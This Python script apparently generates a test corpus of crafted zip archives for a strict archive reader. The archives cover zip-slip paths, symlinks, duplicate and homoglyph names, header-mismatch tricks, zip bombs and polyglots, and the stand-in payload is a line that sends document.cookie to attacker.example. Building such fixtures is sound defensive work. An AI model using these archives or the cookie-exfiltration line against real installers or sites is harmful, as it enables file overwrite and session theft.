#!/usr/bin/env python3
"""Attack corpus for otaseal's strict zip reader (docs/SECURITY.md, docs/FORMAT.md §6).

Writes one crafted archive per attack into tests/corpus/<name>.zip and tests/corpus/expect.json,
which maps every file name to

    {"attack": what the archive tries,
     "expect": the error code otaseal must give ("OK" for the two control archives),
     "files":  the file list the attacker's manifest claims: [{"path", "size", "sha256"}]}

tests/attack_corpus.rs seals every archive's bytes as a release (plain, and encrypted), signs a
manifest listing exactly `files`, checks that the manifest itself verifies, and requires opening
the bundle to fail with exactly `expect`. It also runs this script into a temporary directory and
requires byte-identical output, so the committed corpus and this script never drift apart.

This is an independent zip writer on purpose: Python's `zipfile` for the archives ordinary tools
would make, and `struct` for everything a tool would refuse to write. No zlib is used (its output
differs between zlib builds): deflate streams come from the small fixed-Huffman encoder below, so
the bytes depend only on this file. Standard library only; deterministic (no clocks, no random).

    python3 tests/corpus/make_corpus.py            # rewrite tests/corpus/
    python3 tests/corpus/make_corpus.py --out DIR  # write elsewhere (the regeneration check)
"""

import argparse
import binascii
import hashlib
import io
import json
import os
import struct
import warnings
import zipfile

# --- content ---------------------------------------------------------------------------------

INDEX = b"<!doctype html><title>app</title><script src=app.js></script>\n"
APP = b"console.log('signed release');\n" * 8
EVIL = b"fetch('https://attacker.example/?c=' + document.cookie);\n"
# Compressible content for deflate entries (runs, so the fixed-Huffman encoder shrinks it).
PADDING = b"a" * 3000 + b"\n" + b"b" * 2000 + b"\n"

EPOCH = (1980, 1, 1, 0, 0, 0)
DOS_DATE_1980 = 0x21
MADE_BY_UNIX = 0x031E  # host 3 (Unix), spec 3.0
MADE_BY_DOS = 0x0014  # host 0 (MS-DOS), spec 2.0
REGULAR_0644 = 0o100644 << 16

SIG_LOCAL = 0x04034B50
SIG_CENTRAL = 0x02014B50
SIG_END = 0x06054B50
SIG_ZIP64_END = 0x06064B50
SIG_ZIP64_LOCATOR = 0x07064B50
SIG_DATA_DESCRIPTOR = 0x08074B50


def claim(path, content):
    """A manifest file entry for `content`."""
    return {"path": path, "size": len(content), "sha256": hashlib.sha256(content).hexdigest()}


def crc(data):
    return binascii.crc32(data) & 0xFFFFFFFF


# --- a tiny deflate encoder (RFC 1951 §3.2.6, one fixed-Huffman block) -----------------------

# (base length, extra bits) for length codes 257..285, RFC 1951 §3.2.5.
LENGTH_CODES = [
    (3, 0), (4, 0), (5, 0), (6, 0), (7, 0), (8, 0), (9, 0), (10, 0), (11, 1), (13, 1), (15, 1),
    (17, 1), (19, 2), (23, 2), (27, 2), (31, 2), (35, 3), (43, 3), (51, 3), (59, 3), (67, 4),
    (83, 4), (99, 4), (115, 4), (131, 5), (163, 5), (195, 5), (227, 5), (258, 0),
]


class BitWriter:
    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def bits(self, value, count):
        """`count` bits of `value`, least significant first (data elements)."""
        for i in range(count):
            self.acc |= ((value >> i) & 1) << self.n
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                self.acc = 0
                self.n = 0

    def huffman(self, code, count):
        """A Huffman code, most significant bit first."""
        for i in reversed(range(count)):
            self.bits((code >> i) & 1, 1)

    def finish(self):
        if self.n:
            self.out.append(self.acc)
        return bytes(self.out)


def fixed_symbol(w, sym):
    if sym < 144:
        w.huffman(0x30 + sym, 8)
    elif sym < 256:
        w.huffman(0x190 + sym - 144, 9)
    elif sym < 280:
        w.huffman(sym - 256, 7)
    else:
        w.huffman(0xC0 + sym - 280, 8)


def fixed_length(w, length):
    for i in reversed(range(len(LENGTH_CODES))):
        base, extra = LENGTH_CODES[i]
        if length >= base:
            fixed_symbol(w, 257 + i)
            w.bits(length - base, extra)
            return


def deflate(data, final=True):
    """Raw deflate: literals, and runs of the previous byte as distance-1 matches."""
    w = BitWriter()
    w.bits(1 if final else 0, 1)
    w.bits(1, 2)  # BTYPE 01: fixed Huffman codes
    i = 0
    while i < len(data):
        run = 0
        if i > 0:
            while i + run < len(data) and run < 258 and data[i + run] == data[i - 1]:
                run += 1
        if run >= 3:
            fixed_length(w, run)
            w.huffman(0, 5)  # distance code 0: distance 1
            i += run
        else:
            fixed_symbol(w, data[i])
            i += 1
    fixed_symbol(w, 256)  # end of block
    return w.finish()


# --- a raw zip writer: every field under control ---------------------------------------------


class Entry:
    def __init__(self, name, content, method=0, body=None, **fields):
        self.name = name.encode() if isinstance(name, str) else name
        self.content = content
        self.method = method
        if body is None:
            body = deflate(content) if method == 8 else content
        self.body = body
        self.flags = 0x0800
        self.version_needed = 20
        self.time = 0
        self.date = DOS_DATE_1980
        self.crc = crc(content)
        self.csize = len(body)
        self.usize = len(content)
        self.extra = b""
        self.made_by = MADE_BY_UNIX
        self.external = REGULAR_0644
        self.internal = 0
        self.disk_start = 0
        self.comment = b""
        # Central-directory overrides (None: same as the local header).
        self.c_name = None
        self.c_flags = None
        self.c_method = None
        self.c_crc = None
        self.c_csize = None
        self.c_usize = None
        self.c_extra = None
        self.c_offset_delta = 0
        # Raw bytes written right after this entry's data.
        self.after = b""
        for k, v in fields.items():
            if not hasattr(self, k):
                raise AttributeError(k)
            setattr(self, k, v)


def local_header(e):
    return struct.pack(
        "<IHHHHHIIIHH", SIG_LOCAL, e.version_needed, e.flags, e.method, e.time, e.date,
        e.crc, e.csize, e.usize, len(e.name), len(e.extra),
    ) + e.name + e.extra


def central_header(e, offset):
    name = e.name if e.c_name is None else e.c_name
    extra = e.extra if e.c_extra is None else e.c_extra
    pick = lambda override, local: local if override is None else override
    return struct.pack(
        "<IHHHHHHIIIHHHHHII", SIG_CENTRAL, e.made_by, e.version_needed, pick(e.c_flags, e.flags),
        pick(e.c_method, e.method), e.time, e.date, pick(e.c_crc, e.crc), pick(e.c_csize, e.csize),
        pick(e.c_usize, e.usize), len(name), len(extra), len(e.comment), e.disk_start,
        e.internal, e.external, offset + e.c_offset_delta,
    ) + name + extra + e.comment


def raw_zip(entries, prepend=b"", append=b"", central=None, before_end=b"", end=None,
            adjust_offsets=False, comment=b""):
    """Locals in order, then central headers (for `central`, a list of entry indices, default
    all), then `before_end`, then the end record. `end` overrides end-record fields."""
    out = bytearray(prepend)
    base = 0 if adjust_offsets else len(prepend)
    offsets = []
    for e in entries:
        offsets.append(len(out) - base)
        out += local_header(e) + e.body + e.after
    cd_start = len(out)
    for i in range(len(entries)) if central is None else central:
        out += central_header(entries[i], offsets[i])
    cd_size = len(out) - cd_start
    out += before_end
    fields = {
        "disk": 0, "cd_disk": 0, "count_disk": len(entries) if central is None else len(central),
        "count": len(entries) if central is None else len(central), "cd_size": cd_size,
        "cd_offset": cd_start - base, "comment_len": len(comment),
    }
    fields.update(end or {})
    out += struct.pack(
        "<IHHHHIIH", SIG_END, fields["disk"], fields["cd_disk"], fields["count_disk"],
        fields["count"], fields["cd_size"], fields["cd_offset"], fields["comment_len"],
    ) + comment
    out += append
    return bytes(out)


def good_entries():
    return [Entry("index.html", INDEX), Entry("app.js", APP)]


GOOD_CLAIMS = [claim("index.html", INDEX), claim("app.js", APP)]


# --- archives as ordinary tools write them (Python's zipfile) --------------------------------


def py_zip(members):
    """members: (name, content, external_attr) triples, stored, Unix host, fixed dates."""
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names; that is the point
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            for name, content, external in members:
                info = zipfile.ZipInfo(name, date_time=EPOCH)
                info.create_system = 3
                info.external_attr = external
                z.writestr(info, content)
    return buf.getvalue()


def py_good(*extra):
    return py_zip([("index.html", INDEX, REGULAR_0644), ("app.js", APP, REGULAR_0644), *extra])


# --- the cases -------------------------------------------------------------------------------

CASES = {}


def case(name, expect, attack, data, files=None):
    assert name not in CASES, name
    CASES[name] = (expect, attack, data, GOOD_CLAIMS if files is None else files)


def build():
    ok_deflate = [Entry("index.html", INDEX), Entry("padding.txt", PADDING, method=8)]
    assert ok_deflate[1].csize < len(PADDING)
    case("ok_zipfile_stored", "OK", "control: a plain archive written by Python's zipfile", py_good())
    case("ok_fixed_huffman_deflate", "OK", "control: stored and deflated entries from an independent writer",
         raw_zip(ok_deflate), [claim("index.html", INDEX), claim("padding.txt", PADDING)])

    # Zip-slip and other names that escape or alias the install directory (§6.2).
    reg = REGULAR_0644
    case("slip_dotdot", "PATH_TRAVERSAL", "zip-slip: ../../ escapes the install directory",
         py_good(("../../evil.js", EVIL, reg)))
    case("slip_inner_dotdot", "PATH_TRAVERSAL", "zip-slip hidden inside a path: assets/../../evil.js",
         py_good(("assets/../../evil.js", EVIL, reg)))
    case("slip_dotdot_only", "PATH_TRAVERSAL", "an entry named ..", py_good(("..", EVIL, reg)))
    case("slip_backslash", "PATH_BACKSLASH", "zip-slip with Windows separators: ..\\..\\evil.js",
         py_good(("..\\..\\evil.js", EVIL, reg)))
    case("backslash_separator", "PATH_BACKSLASH", "backslash as a separator: assets\\app.js",
         py_good(("assets\\app.js", EVIL, reg)))
    case("absolute_unix", "PATH_ABSOLUTE", "absolute path /etc/x", py_good(("/etc/x", EVIL, reg)))
    case("absolute_unc", "PATH_ABSOLUTE", "UNC-style //server/share/x", py_good(("//server/share/x", EVIL, reg)))
    case("absolute_drive", "PATH_ABSOLUTE", "drive path C:/x", py_good(("C:/x", EVIL, reg)))
    case("absolute_drive_relative", "PATH_ABSOLUTE", "drive-relative path c:x", py_good(("c:x", EVIL, reg)))
    case("name_nul_truncation", "PATH_INVALID", "NUL in the name: C extractors write evil.js",
         raw_zip(good_entries() + [Entry(b"evil.js\x00.png", EVIL)]))
    case("name_control_char", "PATH_INVALID", "newline in the name", raw_zip(good_entries() + [Entry(b"a\nb.js", EVIL)]))
    case("name_not_utf8", "PATH_NOT_UTF8", "a Latin-1 name that is not UTF-8",
         raw_zip(good_entries() + [Entry(b"caf\xe9.js", EVIL, flags=0)]))
    case("name_non_ascii_homoglyph", "ZIP_CASE_COLLISION", "dotless-i homoglyph of index.html (UTF-8 flag set): folds to index.html",
         raw_zip(good_entries() + [Entry("\u0131ndex.html", EVIL)]))
    case("name_non_ascii_without_utf8_flag", "PATH_NOT_UTF8", "UTF-8 bytes without the UTF-8 flag (CP437 to ZIPFoundation and Python)",
         raw_zip(good_entries() + [Entry("caf\u00e9.js", EVIL, flags=0)]))
    case("name_dot_component", "PATH_INVALID", "./index.html aliases index.html",
         raw_zip([Entry("./index.html", EVIL), Entry("app.js", APP)]))
    case("name_empty_component", "PATH_INVALID", "assets//app.js", raw_zip(good_entries() + [Entry("assets//x.js", EVIL)]))
    case("name_empty", "PATH_INVALID", "an entry with an empty name", raw_zip(good_entries() + [Entry(b"", EVIL)]))
    case("name_too_long", "LIMIT_EXCEEDED", "a 600-byte name (max_path_bytes is 512)",
         raw_zip(good_entries() + [Entry("a" * 600, EVIL)]))

    # Directories, symlinks and other non-regular entries.
    case("dir_entry_trailing_slash", "PATH_INVALID", "a directory entry assets/ as zipfile writes it",
         py_good(("assets/", b"", (0o40755 << 16) | 0x10)))
    case("dir_entry_dos_attribute", "ZIP_NOT_A_FILE", "a claimed file that the MS-DOS attributes mark as a directory",
         raw_zip(good_entries() + [Entry("assets", b"", made_by=MADE_BY_DOS, external=0x10)]),
         GOOD_CLAIMS + [claim("assets", b"")])
    case("dir_entry_unix_mode", "ZIP_NOT_A_FILE", "a claimed file whose Unix mode is a directory",
         raw_zip(good_entries() + [Entry("assets", b"", external=0o40755 << 16)]),
         GOOD_CLAIMS + [claim("assets", b"")])
    link = b"/data/data/com.example.app/shared_prefs"
    case("symlink_absolute", "ZIP_SYMLINK", "index.html is a symlink (external attributes S_IFLNK)",
         py_zip([("index.html", link, 0o120777 << 16), ("app.js", APP, reg)]),
         [claim("index.html", link), claim("app.js", APP)])
    # A manifest cannot also list assets/evil.js (PATH_PREFIX_CONFLICT, §6.3), so the write-through
    # entry itself would be unlisted; the symlink is what is refused here.
    case("symlink_then_write_through", "ZIP_SYMLINK", "symlink assets -> ../../ for a later file to write through",
         raw_zip(good_entries() + [Entry("assets", b"../../", external=0o120755 << 16)]),
         GOOD_CLAIMS + [claim("assets", b"../../")])
    case("fifo_entry", "ZIP_NOT_A_FILE", "a named pipe", raw_zip(good_entries() + [Entry("pipe", b"", external=0o10644 << 16)]),
         GOOD_CLAIMS + [claim("pipe", b"")])
    case("char_device_entry", "ZIP_NOT_A_FILE", "a character device",
         raw_zip(good_entries() + [Entry("tty", b"", external=0o20644 << 16)]), GOOD_CLAIMS + [claim("tty", b"")])

    # The install profile (docs/FORMAT.md §6): what each native installer would make of it.
    # Type bits for every made-by host: ZIPFoundation honours hosts 3 and 19, unzip and 7-Zip more.
    for host, label in [(19, "osx"), (0, "dos"), (2, "vms"), (10, "ntfs"), (16, "beos"), (63, "unknown")]:
        case(f"type_symlink_host_{label}", "ZIP_SYMLINK", f"index.html as a symlink to app.js, made-by host {host}",
             raw_zip([Entry("index.html", b"app.js", external=0o120755 << 16, made_by=(host << 8) | 30),
                      Entry("app.js", APP)]),
             [claim("index.html", b"app.js"), claim("app.js", APP)])
    case("type_directory_host_osx", "ZIP_NOT_A_FILE", "index.html with directory type bits, made-by host 19 (OS X)",
         raw_zip([Entry("index.html", INDEX, external=0o040755 << 16, made_by=(19 << 8) | 30), Entry("app.js", APP)]))
    case("type_fifo_host_ntfs", "ZIP_NOT_A_FILE", "a FIFO type in the high bits, made-by host 10 (NTFS)",
         raw_zip(good_entries() + [Entry("pipe", b"", external=0o010644 << 16, made_by=(10 << 8) | 30)]),
         GOOD_CLAIMS + [claim("pipe", b"")])
    case("dos_reparse_point", "ZIP_SYMLINK", "Windows reparse point attribute 0x400 (a link), host 10",
         raw_zip(good_entries() + [Entry("link.js", EVIL, external=0x420, made_by=(10 << 8) | 30)]),
         GOOD_CLAIMS + [claim("link.js", EVIL)])
    case("dos_volume_label", "ZIP_NOT_A_FILE", "MS-DOS volume label attribute 0x08",
         raw_zip(good_entries() + [Entry("label", b"", external=0x08, made_by=MADE_BY_DOS)]),
         GOOD_CLAIMS + [claim("label", b"")])
    case("mode_unreadable", "ZIP_FILE_MODE", "app.js with mode 0200: iOS would install a file the app cannot read",
         raw_zip([Entry("index.html", INDEX), Entry("app.js", APP, external=0o100200 << 16)]))
    case("ok_mode_zero_permissions", "OK", "control: type regular, permission bits 0 (extractors use their default)",
         raw_zip([Entry("index.html", INDEX, external=0o100000 << 16), Entry("app.js", APP)]))
    case("ok_dos_host_archive_bit", "OK", "control: made-by MS-DOS, attribute 0x20 (archive), as Windows tools write",
         raw_zip([Entry("index.html", INDEX, external=0x20, made_by=MADE_BY_DOS), Entry("app.js", APP, external=0, made_by=MADE_BY_DOS)]))
    # Names every device file system can hold, in one spelling.
    case("name_component_256", "PATH_COMPONENT_TOO_LONG", "a 256-byte file name (no device file system holds it)",
         raw_zip(good_entries() + [Entry("assets/" + "a" * 256, EVIL)]), GOOD_CLAIMS)
    case("name_nfd", "PATH_NOT_NFC", "Schrift-u + combining diaeresis: ext4 and APFS disagree on the name",
         raw_zip(good_entries() + [Entry("Schrift-u\u0308.woff2", EVIL)]), GOOD_CLAIMS)
    case("name_zero_width", "PATH_INVALID", "a zero-width space in app\u200b.js (looks like app.js)",
         raw_zip(good_entries() + [Entry("app\u200b.js", EVIL)]), GOOD_CLAIMS)
    case("name_reserved_macosx", "PATH_RESERVED", "__MACOSX/ metadata: Android's re-root skips it, iOS's counts it",
         raw_zip(good_entries() + [Entry("__MACOSX/._index.html", b"\x00\x05\x16\x07")]), GOOD_CLAIMS)
    font = b"wOF2" + bytes(range(64))
    case("ok_name_utf8_nfc", "OK", "control: Schrift-\u00fc.woff2, NFC, UTF-8 flag set",
         raw_zip(good_entries() + [Entry("fonts/Schrift-\u00fc.woff2", font)]),
         GOOD_CLAIMS + [claim("fonts/Schrift-\u00fc.woff2", font)])
    case("name_unicode_case_collision", "ZIP_CASE_COLLISION", "\u00c9.js after \u00e9.js: one file on APFS",
         raw_zip(good_entries() + [Entry("\u00e9.js", APP), Entry("\u00c9.js", EVIL)]),
         GOOD_CLAIMS + [claim("\u00e9.js", APP)])
    # Deflate as zlib decodes it: a back-reference before the first byte (zlib: "invalid distance
    # too far back"); an inflater with a zero-filled window would give "a\0a\0".
    w = BitWriter()
    w.bits(1, 1)
    w.bits(1, 2)
    fixed_symbol(w, ord("a"))
    fixed_symbol(w, 257)  # length 3
    w.huffman(1, 5)  # distance code 1: distance 2, one byte before the start
    fixed_symbol(w, 256)
    too_far = w.finish()
    zero_filled = b"a\x00a\x00"
    case("deflate_distance_too_far_back", "ZIP_INFLATE_FAILED", "a match reaching before the first byte, signed as zero-filled",
         raw_zip([Entry("index.html", INDEX), Entry("app.js", zero_filled, method=8, body=too_far)]),
         [claim("index.html", INDEX), claim("app.js", zero_filled)])
    w = BitWriter()
    w.bits(1, 1)
    w.bits(1, 2)
    fixed_symbol(w, ord("a"))
    fixed_symbol(w, ord("b"))
    fixed_symbol(w, 257)
    w.huffman(1, 5)  # distance 2: exactly the first byte
    fixed_symbol(w, 256)
    case("ok_deflate_distance_to_first_byte", "OK", "control: a match reaching exactly the first byte",
         raw_zip([Entry("index.html", INDEX), Entry("app.js", b"ababa", method=8, body=w.finish())]),
         [claim("index.html", INDEX), claim("app.js", b"ababa")])

    # Duplicate and colliding names: which copy does the installer keep?
    case("duplicate_name", "ZIP_DUPLICATE_ENTRY", "index.html twice, the second one malicious (Android Master Key 8219321)",
         py_good(("index.html", EVIL, reg)))
    case("duplicate_name_same_content", "ZIP_DUPLICATE_ENTRY", "index.html twice, identical copies",
         py_good(("index.html", INDEX, reg)))
    case("case_collision", "ZIP_CASE_COLLISION", "INDEX.HTML after index.html: one file on APFS/NTFS",
         py_good(("INDEX.HTML", EVIL, reg)))
    case("case_collision_mixed", "ZIP_CASE_COLLISION", "App.JS after app.js", py_good(("App.JS", EVIL, reg)))

    # The local header and the central directory tell different stories (CVE-2013-4787 family).
    def central_lie(**kw):
        e = good_entries()
        for k, v in kw.items():
            setattr(e[0], k, v)
        return raw_zip(e)

    case("header_name_mismatch", "ZIP_HEADER_MISMATCH", "central directory names evil.html for local index.html",
         central_lie(c_name=b"evil.html"))
    case("header_name_same_length", "ZIP_HEADER_MISMATCH", "central name differs in one byte",
         central_lie(c_name=b"index.htm_"))
    case("header_size_mismatch", "ZIP_HEADER_MISMATCH", "central sizes differ from the local header",
         central_lie(c_csize=len(INDEX) + 100, c_usize=len(INDEX) + 100))
    case("header_method_mismatch", "ZIP_HEADER_MISMATCH", "central says deflate, local says stored", central_lie(c_method=8))
    case("header_crc_mismatch", "ZIP_HEADER_MISMATCH", "central CRC differs", central_lie(c_crc=0xDEADBEEF))
    case("header_flags_mismatch", "ZIP_HEADER_MISMATCH", "central flags announce a data descriptor",
         central_lie(c_flags=0x0808))
    case("header_offset_mismatch", "ZIP_HEADER_MISMATCH", "central offset points one byte later",
         central_lie(c_offset_delta=1))
    case("header_extra_length_mismatch", "ZIP_UNSUPPORTED_FEATURE",
         "local extra length differs from central (Android 9695860): data starts elsewhere for each reader",
         raw_zip([Entry("index.html", INDEX, extra=b"\x00\x00\x00\x00", c_extra=b""), Entry("app.js", APP)]))
    overlapping = good_entries()
    case("bomb_overlapping_entries", "ZIP_MALFORMED",
         "overlapping-files bomb: central directory lists the same local entry twice",
         raw_zip(overlapping, central=[0, 1, 1]))
    case("central_points_to_other_local", "ZIP_HEADER_MISMATCH", "second central header points at the first local entry",
         raw_zip([Entry("index.html", INDEX), Entry("app.js", APP, c_offset_delta=-(30 + 10 + len(INDEX)))]))

    # Zip bombs.
    bomb_body = deflate(b"\x00" * 2_000_000)
    case("bomb_inflates_past_signed_size", "SIZE_MISMATCH",
         "header and manifest say 1000 bytes, the deflate stream inflates to 2 MB",
         raw_zip(good_entries() + [Entry("data.bin", b"\x00" * 1000, method=8, body=bomb_body)]),
         GOOD_CLAIMS + [claim("data.bin", b"\x00" * 1000)])
    huge = 200_000_000
    case("bomb_ratio", "LIMIT_EXCEEDED", "200 MB claimed from 100 compressed bytes (ratio above max_ratio)",
         raw_zip(good_entries() + [Entry("data.bin", b"", method=8, body=b"\x03\x00" + b"\x00" * 98, usize=huge)]),
         GOOD_CLAIMS + [{"path": "data.bin", "size": huge, "sha256": "00" * 32}])

    # Bytes around the archive.
    plain = raw_zip(good_entries())
    case("prepended_stub", "ZIP_PREPENDED_DATA", "self-extractor stub before the archive (offsets not adjusted)",
         b"MZ\x90\x00" + b"\x00" * 60 + plain)
    case("prepended_polyglot", "ZIP_PREPENDED_DATA", "HTML polyglot: page first, zip offsets adjusted (zip -A)",
         raw_zip(good_entries(), prepend=b"<html><script>evil()</script></html>\n", adjust_offsets=True))
    case("prepended_then_local_signature", "ZIP_PREPENDED_DATA", "junk, then PK\\3\\4 further in",
         b"junk" + plain)
    case("central_first", "ZIP_PREPENDED_DATA", "the archive starts with a central header",
         central_header(Entry("index.html", INDEX), 0) + plain)
    case("not_a_zip", "ZIP_PREPENDED_DATA", "an HTML page instead of a zip", b"<!doctype html><h1>not a zip</h1>\n")
    case("trailing_data", "ZIP_TRAILING_DATA", "script bytes after the end record", plain + b"<script>evil()</script>")
    case("trailing_second_archive", "ZIP_TRAILING_DATA", "a second archive after the first (readers differ on which wins)",
         plain + raw_zip([Entry("evil.js", EVIL)]))
    case("trailing_comment", "ZIP_UNSUPPORTED_FEATURE", "an archive comment (polyglot hiding place)",
         raw_zip(good_entries(), comment=b"<script>evil()</script>"))
    case("trailing_comment_length_lie", "ZIP_TRAILING_DATA", "comment bytes without a comment length", plain + b"comment")

    # Methods, encryption, and features outside the profile.
    def with_entry(**kw):
        return raw_zip(good_entries() + [Entry("extra.bin", EVIL, **kw)])

    extra_claims = GOOD_CLAIMS + [claim("extra.bin", EVIL)]
    case("method_bzip2", "ZIP_UNSUPPORTED_METHOD", "method 12 (bzip2)", with_entry(method=12), extra_claims)
    case("method_lzma", "ZIP_UNSUPPORTED_METHOD", "method 14 (LZMA) with version needed 2.0", with_entry(method=14),
         extra_claims)
    case("method_zstd", "ZIP_UNSUPPORTED_METHOD", "method 93 (zstd)", with_entry(method=93), extra_claims)
    case("method_implode", "ZIP_UNSUPPORTED_METHOD", "method 6 (implode)", with_entry(method=6), extra_claims)
    case("method_lzma_version_63", "ZIP_UNSUPPORTED_FEATURE", "LZMA as 7-Zip writes it: version needed 6.3",
         with_entry(method=14, version_needed=63), extra_claims)
    case("encrypted_zipcrypto", "ZIP_ENCRYPTED_ENTRY", "traditional PKWARE encryption (flag bit 0)",
         with_entry(flags=0x0801), extra_claims)
    case("encrypted_strong", "ZIP_ENCRYPTED_ENTRY", "strong encryption (flag bits 0 and 6)",
         with_entry(flags=0x0841), extra_claims)
    case("encrypted_winzip_aes", "ZIP_ENCRYPTED_ENTRY", "WinZip AES: method 99, AE-2 extra field",
         with_entry(flags=0x0801, method=99, version_needed=51, extra=b"\x01\x99\x07\x00\x02\x00AE\x03\x00\x00"),
         extra_claims)
    dd = struct.pack("<IIII", SIG_DATA_DESCRIPTOR, crc(EVIL), len(EVIL), len(EVIL))
    case("data_descriptor_flag", "ZIP_UNSUPPORTED_FEATURE", "sizes deferred to a data descriptor (flag bit 3)",
         with_entry(flags=0x0808, crc=0, csize=0, usize=0, c_crc=crc(EVIL), c_csize=len(EVIL), c_usize=len(EVIL),
                    after=dd), extra_claims)
    case("data_descriptor_record", "ZIP_UNSUPPORTED_FEATURE", "a data descriptor record without the flag",
         with_entry(after=dd), extra_claims)
    z64 = struct.pack("<HHQQ", 1, 16, len(EVIL), len(EVIL))
    case("zip64_sizes", "ZIP_UNSUPPORTED_FEATURE", "zip64: sizes 0xffffffff and a zip64 extra field",
         with_entry(csize=0xFFFFFFFF, usize=0xFFFFFFFF, extra=z64, version_needed=45), extra_claims)
    z64_end = struct.pack("<IQHHIIQQQQ", SIG_ZIP64_END, 44, 45, 45, 0, 0, 2, 2, 0, 0)
    z64_loc = struct.pack("<IIQI", SIG_ZIP64_LOCATOR, 0, 0, 1)
    case("zip64_end_record", "ZIP_UNSUPPORTED_FEATURE", "zip64 end record and locator before the end record",
         raw_zip(good_entries(), before_end=z64_end + z64_loc))
    case("version_needed_45", "ZIP_UNSUPPORTED_FEATURE", "version needed to extract 4.5", with_entry(version_needed=45),
         extra_claims)
    case("unknown_flag_bit", "ZIP_UNSUPPORTED_FEATURE", "general purpose flag bit 13 (encrypted central directory)",
         with_entry(flags=0x2800), extra_claims)
    case("extra_field_timestamp", "ZIP_UNSUPPORTED_FEATURE", "an extended-timestamp extra field (0x5455)",
         with_entry(extra=b"UT\x05\x00\x03\x00\x00\x00\x00"), extra_claims)
    case("central_file_comment", "ZIP_UNSUPPORTED_FEATURE", "a file comment in the central directory",
         with_entry(comment=b"hello"), extra_claims)
    case("central_disk_start", "ZIP_UNSUPPORTED_FEATURE", "an entry that starts on disk 1", with_entry(disk_start=1),
         extra_claims)
    case("end_multi_disk", "ZIP_UNSUPPORTED_FEATURE", "end record of disk 1 of a split archive",
         raw_zip(good_entries(), end={"disk": 1, "cd_disk": 1}))

    # Structure that does not add up.
    case("end_count_wrong", "ZIP_MALFORMED", "end record counts 3 entries for 2", raw_zip(good_entries(), end={"count": 3}))
    case("end_cd_offset_wrong", "ZIP_MALFORMED", "end record points at the wrong central directory",
         raw_zip(good_entries(), end={"cd_offset": 0}))
    case("end_cd_size_wrong", "ZIP_MALFORMED", "end record central directory size is off by one",
         raw_zip(good_entries(), end={"cd_size": 1}))
    case("central_entry_missing", "ZIP_MALFORMED", "a local entry the central directory hides (smuggled file)",
         raw_zip(good_entries(), central=[0]))
    case("stored_sizes_differ", "ZIP_MALFORMED", "stored entry with compressed size != uncompressed size",
         raw_zip([Entry("index.html", INDEX, body=INDEX + b"EXTRA", csize=len(INDEX) + 5), Entry("app.js", APP)]))
    case("local_after_central", "ZIP_MALFORMED", "a local header after the central directory began",
         raw_zip(good_entries(), before_end=local_header(Entry("evil.js", EVIL)) + EVIL))
    case("unknown_record", "ZIP_MALFORMED", "an unknown record signature between entries",
         raw_zip([Entry("index.html", INDEX, after=b"PK\x09\x09"), Entry("app.js", APP)]))
    case("truncated_no_end_record", "ZIP_MALFORMED", "the archive stops before its end record", plain[:-22])
    case("truncated_mid_entry", "ZIP_MALFORMED", "the archive stops inside an entry", plain[:40])
    case("empty_archive", "ZIP_MISSING_FILE", "an end record and nothing else", raw_zip([]))

    # Verifying one thing and installing another: every byte of every file must be the signed one.
    case("unlisted_extra_file", "ZIP_UNLISTED_ENTRY", "an unsigned evil.js smuggled next to the signed files",
         raw_zip(good_entries() + [Entry("evil.js", EVIL)]))
    case("missing_signed_file", "ZIP_MISSING_FILE", "a signed file left out", raw_zip([Entry("index.html", INDEX)]))
    swapped = INDEX.replace(b"app.js", b"bad.js")
    case("swapped_content_same_size", "HASH_MISMATCH", "index.html replaced by other bytes of the same length",
         raw_zip([Entry("index.html", swapped), Entry("app.js", APP)]))
    case("size_differs", "SIZE_MISMATCH", "index.html longer than signed",
         raw_zip([Entry("index.html", INDEX + b"<script src=evil.js></script>"), Entry("app.js", APP)]))
    case("crc_wrong", "ZIP_CRC_MISMATCH", "right bytes, wrong CRC-32 in both headers",
         raw_zip([Entry("index.html", INDEX, crc=crc(INDEX) ^ 1), Entry("app.js", APP)]))
    padding_body = deflate(PADDING)
    case("deflate_reserved_block", "ZIP_INFLATE_FAILED", "deflate block type 3 (reserved)",
         raw_zip([Entry("index.html", INDEX), Entry("padding.txt", PADDING, method=8, body=b"\x07" + padding_body[1:])]),
         [claim("index.html", INDEX), claim("padding.txt", PADDING)])
    case("deflate_trailing_bytes", "ZIP_INFLATE_FAILED", "compressed bytes after the final deflate block",
         raw_zip([Entry("index.html", INDEX), Entry("padding.txt", PADDING, method=8, body=padding_body + b"EVIL")]),
         [claim("index.html", INDEX), claim("padding.txt", PADDING)])
    case("deflate_not_final", "ZIP_INFLATE_FAILED", "the deflate stream never reaches a final block",
         raw_zip([Entry("index.html", INDEX), Entry("padding.txt", PADDING, method=8, body=deflate(PADDING, final=False))]),
         [claim("index.html", INDEX), claim("padding.txt", PADDING)])


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", default=here, help="output directory (default: next to this script)")
    out = parser.parse_args().out
    build()
    os.makedirs(out, exist_ok=True)
    expect = {}
    for name, (code, attack, data, files) in sorted(CASES.items()):
        file = name + ".zip"
        with open(os.path.join(out, file), "wb") as f:
            f.write(data)
        expect[file] = {"attack": attack, "expect": code, "files": files}
    with open(os.path.join(out, "expect.json"), "w", encoding="utf-8", newline="\n") as f:
        json.dump(expect, f, indent=1, sort_keys=True, ensure_ascii=True)
        f.write("\n")
    print(f"{len(CASES)} archives written to {out}")


if __name__ == "__main__":
    main()
